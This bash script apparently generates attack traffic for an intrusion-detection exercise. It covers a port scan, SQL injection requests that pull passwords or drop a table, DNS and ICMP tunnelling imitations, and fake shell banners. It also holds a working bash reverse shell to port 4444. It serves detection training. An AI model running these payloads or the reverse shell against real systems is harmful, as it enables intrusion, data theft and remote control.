#!/usr/bin/env bash
# Attacks with programs that every machine has: bash, ping, curl (without curl: bash). For the exercise ids.yaml.
# usage: attack.sh NAME ADDRESS      attack.sh list
# What is sent is harmless: it only looks like the real thing.
set -u
names="scan union always-true second-statement long-name many-names large-echoes large-echoes6 ip-in-echo
ssh-in-echo shell windows-shell id"
name="${1:-list}" target="${2:-}"
if [ "$name" = list ] || [ -z "$target" ]; then
    echo "usage: attack.sh NAME ADDRESS"
    echo "names:" $names
    exit 0
fi

get() { # an HTTP request with this path and query
    if command -v curl >/dev/null; then
        curl -g -s -m 3 -o /dev/null "http://$target/$1"
    else
        exec 3<>"/dev/tcp/$target/80" &&
            printf 'GET /%s HTTP/1.0\r\nHost: %s\r\n\r\n' "$1" "$target" >&3 && timeout 3 cat <&3 >/dev/null
    fi
}

ask() { # a DNS query for a name of these labels and .example, as one datagram
    local label message='\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00'
    for label in "$@" example; do
        message+="$(printf '\\x%02x' "${#label}")$label"
    done
    # shellcheck disable=SC2059 # the message is the format
    printf "$message"'\x00\x00\x10\x00\x01' | dd bs=65536 iflag=fullblock status=none >"/dev/udp/$target/53"
}

letters() { # so many random letters and digits, like encoded data
    head -c 300 /dev/urandom | base64 -w0 | tr -dc 'a-z0-9' | head -c "$1"
}

say() { # a connection to the attacker's port 4444 that sends this text and ends
    # shellcheck disable=SC2059
    printf "$1" >"/dev/tcp/$target/4444"
}

case "$name" in
scan)
    for port in $(seq 8001 8060); do
        timeout 1 bash -c "true >/dev/tcp/$target/$port" 2>/dev/null
    done
    ;;
union) get "items?id=1+UNION+ALL+SELECT+name,password+FROM+users" ;;
always-true) get "login?user=admin'+or+'1'='1" ;;
second-statement) get "items?id=1;drop+table+users" ;;
long-name) ask "$(letters 60)" "$(letters 55)" ;;
many-names)
    for _ in $(seq 30); do
        ask "$(letters 56)" t 2>/dev/null # refused where no server runs; it was sent nevertheless
    done
    ;;
large-echoes) ping -4 -q -c 14 -i 0.1 -s 800 -W 1 "$target" ;;
large-echoes6) ping -6 -q -c 14 -i 0.1 -s 800 -W 1 "$target" ;;
ip-in-echo) ping -4 -q -c 1 -s 12 -p 4500000c -W 1 "$target" ;;
ssh-in-echo) ping -4 -q -c 1 -s 8 -p 5353482d322e302d -W 1 "$target" ;;
shell) # without a terminal: the IDS knows it by its greeting
    timeout -s KILL 20 bash --norc --noprofile -i >& "/dev/tcp/$target/4444" 0>&1 ;;
windows-shell)
    say 'Microsoft Windows [Version 10.0.19045.3693]\r\n(c) Microsoft Corporation. All rights reserved.\r\n' ;;
id) say 'uid=0(root) gid=0(root) groups=0(root)\n' ;;
*)
    echo "attack.sh: no attack is called $name; there are:" $names >&2
    exit 2
    ;;
esac
exit 0 # it was sent; whether it was answered is the lesson
